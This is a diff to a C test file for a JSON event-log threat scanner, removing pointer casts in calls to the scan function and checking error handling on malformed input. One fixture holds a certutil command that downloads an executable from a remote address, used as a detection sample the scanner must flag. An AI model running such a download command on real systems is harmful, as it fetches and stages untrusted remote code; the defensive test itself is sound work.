@@ -39,7 +39,7 @@ static size_t scan_file(lw_scanner *scanner, const char *path, struct seen *seen
     ssize_t n;
     while ((n = getline(&line, &cap, f)) > 0) {
         lines++;
-        CHECK(lw_scanner_scan_json(scanner, (const uint8_t *)line, (size_t)n, on_detection, seen, NULL) == LW_OK);
+        CHECK(lw_scanner_scan_json(scanner, line, (size_t)n, on_detection, seen, NULL) == LW_OK);
     }
     free(line);
     fclose(f);
@@ -68,15 +68,15 @@ int main(int argc, char **argv) {
     /* bad input: counted, an error that says why, the scanner goes on */
     static const char bad[] = "{\"EventID\": 1, \0 \"x\"}";
     lw_error *err = NULL;
-    CHECK(lw_scanner_scan_json(scanner, (const uint8_t *)bad, sizeof bad - 1, on_detection, &seen, &err) == LW_ERR_INPUT);
+    CHECK(lw_scanner_scan_json(scanner, bad, sizeof bad - 1, on_detection, &seen, &err) == LW_ERR_INPUT);
     CHECK(err != NULL && strlen(lw_error_message(err)) > 0);
     lw_error_free(err);
     err = NULL;
-    static const uint8_t not_utf8[] = {'{', '"', 0xff, '"', ':', '1', '}'};
+    static const char not_utf8[] = {'{', '"', (char)0xff, '"', ':', '1', '}'};
     CHECK(lw_scanner_scan_json(scanner, not_utf8, sizeof not_utf8, NULL, NULL, &err) == LW_ERR_INPUT);
     lw_error_free(err);
-    CHECK(lw_scanner_scan_json(scanner, (const uint8_t *)"[1]", 3, NULL, NULL, NULL) == LW_ERR_INPUT);
-    CHECK(lw_scanner_scan_json(NULL, (const uint8_t *)"{}", 2, NULL, NULL, NULL) == LW_ERR_ARG);
+    CHECK(lw_scanner_scan_json(scanner, "[1]", 3, NULL, NULL, NULL) == LW_ERR_INPUT);
+    CHECK(lw_scanner_scan_json(NULL, "{}", 2, NULL, NULL, NULL) == LW_ERR_ARG);
     CHECK(lw_scanner_scan_json(scanner, NULL, 0, NULL, NULL, NULL) == LW_ERR_ARG);
 
     lw_stats stats;
@@ -110,7 +110,7 @@ int main(int argc, char **argv) {
     static const char certutil[] =
         "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
         "\"CommandLine\":\"certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe\"}";
-    CHECK(lw_scanner_scan_json(early, (const uint8_t *)certutil, strlen(certutil), on_detection, &one, NULL) == LW_OK);
+    CHECK(lw_scanner_scan_json(early, certutil, strlen(certutil), on_detection, &one, NULL) == LW_OK);
     CHECK(one.count == 1);
 
     lw_scanner_free(early);
